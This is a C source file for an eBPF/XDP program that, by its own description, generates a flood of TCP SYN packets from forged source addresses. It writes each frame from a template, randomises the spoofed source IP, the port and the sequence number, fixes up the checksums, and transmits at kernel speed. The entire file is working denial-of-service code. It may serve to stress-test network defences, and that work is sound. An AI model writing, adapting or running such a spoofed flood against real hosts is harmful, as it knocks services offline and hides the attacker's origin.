/* A flood of SYNs from forged sources. The kernel runs it on live frames (BPF_F_TEST_XDP_LIVE_FRAMES): each run writes one frame and
 * sends it out of the interface. Frames come back to their pool without being restored, so that every byte is written anew. */
#include <linux/bpf.h>

#include <bpf/bpf_helpers.h>

#include "bpf/wire.h"

/* Set before the flood: a frame with everything in it but source, port, number and what follows from them. */
enum { FRAME_BYTES = 74 };
__u8 model[FRAME_BYTES + 6];
__u32 source_network; /* host order */
__u32 source_hosts;   /* mask */
__u64 random_state;

__u64 sent;

static inline __u32 draw(void) {
  random_state = random_state * 6364136223846793005ULL + 1442695040888963407ULL;
  return (__u32)(random_state >> 32);
}

static inline __u16 fold(__u32 sum) {
  sum = (sum & 0xffff) + (sum >> 16);
  sum = (sum & 0xffff) + (sum >> 16);
  return (__u16)~sum;
}

SEC("xdp")
int flood(struct xdp_md *context) {
  __u8 *frame = (__u8 *)(long)context->data;
  struct gh_ipv4 *ip = (struct gh_ipv4 *)(frame + sizeof(struct gh_ethernet));
  struct gh_tcp *tcp = (struct gh_tcp *)(ip + 1);
  const __u32 source = __builtin_bswap32(source_network | (draw() & source_hosts));
  const __u32 number = draw();
  const __u16 port = (__u16)(draw() | 0x0400);
  if (frame + FRAME_BYTES > (__u8 *)(long)context->data_end) return XDP_ABORTED;
  __builtin_memcpy(frame, model, FRAME_BYTES);
  ip->source[0] = (__u16)source;
  ip->source[1] = (__u16)(source >> 16);
  tcp->source_port = gh_be16(port);
  tcp->sequence[0] = (__u16)number;
  tcp->sequence[1] = (__u16)(number >> 16);
  /* The model's checksums are sums of what does not change. */
  ip->checksum = fold((__u32)ip->checksum + ip->source[0] + ip->source[1]);
  tcp->checksum = fold((__u32)tcp->checksum + ip->source[0] + ip->source[1] + tcp->source_port + tcp->sequence[0] + tcp->sequence[1]);
  ++sent;
  return XDP_TX;
}

char _license[] SEC("license") = "Dual BSD/GPL";
